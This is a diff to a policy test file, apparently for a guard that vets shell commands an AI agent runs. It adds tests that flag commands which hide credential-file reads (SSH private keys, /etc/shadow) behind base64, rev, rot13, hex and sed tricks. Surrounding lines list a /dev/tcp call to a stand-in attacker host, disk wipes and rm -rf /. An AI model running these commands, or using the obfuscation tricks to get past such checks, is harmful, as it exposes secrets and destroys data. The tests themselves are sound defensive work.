@@ -406,6 +406,7 @@ test_exec_knowledge_is_data_driven if {
 exec_examples := {
 	"exec.disk_wipe": "mkfs.xfs /dev/sdc",
 	"exec.raw_socket": "cat < /dev/tcp/evil.example/80",
+	"exec.constructed_text": "cat $(base64 -d <<< L2V0Yy9zaGFkb3c=)",
 	"exec.rm_root": "rm -rf /",
 	"exec.recursive_delete": "rm -rf target",
 	"exec.kubectl_delete": "kubectl delete deployment api",
@@ -646,4 +647,25 @@ test_indirect_expansion_may_print_a_secret if {
 		fired(decide(exec_call(cmd, "production")), "cred.secret_env_var")
 	}
 	decide(exec_call("echo ${!OPENAI*}", "production")).effect == "allow"
+}
+
+# Words built at run time from literal text through a transformer hide what they
+# name or run; a pipeline or substitution that only lists or reads files does not.
+test_words_built_from_literal_text_are_held if {
+	every cmd in [
+		"cat $(echo L2hvbWUvZGV2Ly5zc2gvaWRfcnNh | base64 -d)", "cat \"$(base64 -d <<< L2hvbWU=)\"",
+		"f=$(base64 -d <<< L2hvbWU=); cat \"$f\"", "cat $(rev <<< asr_di/hss./ved/emoh/)",
+		"cat $(printf '\\x2fhome\\x2fdev')", "cat $(tr a-z n-za-m <<< '/ubzr/qri')", "echo L2V0Yw== | base64 -d | xargs cat",
+		"cat $(sed 's/X/.ssh/' <<< /home/dev/X/id_rsa)", "head $(xxd -r -p <<< 2f6574632f736861646f77)",
+	] {
+		d := decide(exec_call(cmd, "production"))
+		fired(d, "exec.constructed_text")
+		d.effect != "allow"
+	}
+	every cmd in [
+		"wc -l $(git ls-files '*.py')", "cat $(find . -name '*.md')", "base64 -d token.txt | jq .", "echo aGk= | base64 -d",
+		"x=$(date +%s); echo $x", "head -n 5 $(git ls-files | head -3)", "echo $(printf '%05d' 3)",
+	] {
+		not "exec.constructed_text" in exec_rules_for(cmd, "production")
+	}
 }
